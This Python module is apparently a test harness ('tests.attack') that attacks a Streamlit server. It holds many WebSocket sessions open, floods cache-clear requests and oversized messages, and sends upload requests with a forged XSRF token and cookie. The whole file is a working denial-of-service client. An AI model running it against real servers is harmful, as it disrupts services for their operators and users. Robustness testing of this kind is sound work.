"""An anonymous client that wants to be in the others' way: ``python -m tests.attack ADDRESS SOCKETS``.

It holds that many sockets open, sends messages to clear the caches and messages larger than any may be, and floods the
address for uploads, all at once and without a pause, from a process of its own until it is ended. It prints a line once
each socket has its page or was refused.
"""

import asyncio
import sys
from contextlib import suppress
from urllib.parse import urlsplit

import websockets
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.typing import Subprotocol

OVERSIZED = bytes(21 * 2**20)  # the server takes 20 MB
BODY = bytes(2**20)
UPLOADERS, CLEARERS, STUFFERS = 8, 8, 2
READY = "ready"


async def hold(stream: str, count: int) -> None:
    """Open sockets, each with a page, and keep them; one that is closed or refused is opened again."""
    tried = [asyncio.Event() for _ in range(count)]
    run = BackMsg()
    run.rerun_script.page_name = ""

    async def one(first: asyncio.Event) -> None:
        while True:
            with suppress(OSError, websockets.WebSocketException):
                async with connected(stream) as connection:
                    await connection.send(run.SerializeToString())
                    async for frame in connection:
                        if ForwardMsg.FromString(frame).WhichOneof("type") == "script_finished":
                            first.set()
            first.set()
            await asyncio.sleep(0.1)

    async def tell() -> None:
        for each in tried:
            await each.wait()
        print(READY, flush=True)

    await asyncio.gather(tell(), *map(one, tried))


def connected(stream: str) -> websockets.connect:
    protocols = [Subprotocol("streamlit"), Subprotocol("PLACEHOLDER_AUTH_TOKEN")]
    return websockets.connect(stream, subprotocols=protocols, max_size=None, compression=None)


async def clear(stream: str) -> None:
    """Ask on and on for the caches of all to be cleared."""
    message = BackMsg()
    message.clear_cache = True
    while True:
        with suppress(OSError, websockets.WebSocketException):
            async with connected(stream) as connection:
                while True:
                    await connection.send(message.SerializeToString())
                    await asyncio.sleep(0)
        await asyncio.sleep(0.1)


async def stuff(stream: str) -> None:
    """Send messages of a size that nobody may send."""
    while True:
        with suppress(OSError, websockets.WebSocketException):
            async with connected(stream) as connection:
                await connection.send(OVERSIZED)
                await connection.recv()
        await asyncio.sleep(0.1)


async def upload(host: str, port: int) -> None:
    """Send files to made-up sessions."""
    head = (
        f"PUT /_stcore/upload_file/made-up/any HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: {len(BODY)}\r\n"
        "Content-Type: multipart/form-data; boundary=b\r\nX-Xsrftoken: a\r\nCookie: _streamlit_xsrf=a\r\n\r\n"
    )
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(head.encode() + BODY)
                await writer.drain()
                await reader.read(2**16)
            finally:
                writer.close()
        await asyncio.sleep(0)


async def main(address: str, sockets: int) -> None:
    parts = urlsplit(address)
    host, port = str(parts.hostname), int(parts.port or 80)
    stream = f"ws://{host}:{port}/_stcore/stream"
    await asyncio.gather(
        hold(stream, sockets),
        *(clear(stream) for _ in range(CLEARERS)),
        *(stuff(stream) for _ in range(STUFFERS)),
        *(upload(host, port) for _ in range(UPLOADERS)),
    )


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
